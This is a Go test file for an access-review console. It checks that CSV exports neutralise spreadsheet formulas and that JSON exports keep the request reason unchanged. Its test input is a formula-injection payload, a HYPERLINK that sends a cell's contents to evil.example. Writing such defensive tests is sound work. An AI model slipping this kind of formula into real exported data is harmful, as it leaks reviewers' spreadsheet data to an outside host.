package console_test

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/review"
)

// An agent writes its request's reason; a reviewer downloads the review
// as CSV and opens it in a spreadsheet. The reason must arrive as text,
// not as a formula the spreadsheet evaluates (a HYPERLINK that sends the
// sheet's cells elsewhere, a DDE command).
func TestReviewCSVNeutralisesFormulas(t *testing.T) {
	e := newEnv(t, nil)
	reason := `=HYPERLINK("https://evil.example/?"&A1,"open the runbook")`
	g := e.request("log-triage-bot", humanScope, "30m", reason)
	b := e.browser()
	b.mustSignIn(e.alice)
	day := time.Now().UTC().Format("2006-01-02")
	p := b.get("/console/review.csv?day=" + day)
	if p.status != 200 {
		t.Fatalf("review.csv: %d %s", p.status, p.body)
	}
	recs, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := slices.Index(review.Header, "reason")
	var found bool
	for _, rec := range recs[1:] {
		if rec[0] != g.ID {
			continue
		}
		found = true
		if got := rec[col]; got != "'"+reason {
			t.Errorf("reason cell %q: a spreadsheet evaluates it as a formula; want %q", got, "'"+reason)
		}
	}
	if !found {
		t.Fatalf("grant %s not in the CSV:\n%s", g.ID, p.body)
	}
	// The JSON download keeps the reason exactly as given.
	if j := b.get("/console/review.json?day=" + day); !strings.Contains(j.body, `"=HYPERLINK(\"https://evil.example/?\"\u0026A1,\"open the runbook\")"`) {
		t.Errorf("review.json lost the exact reason:\n%s", j.body)
	}
}
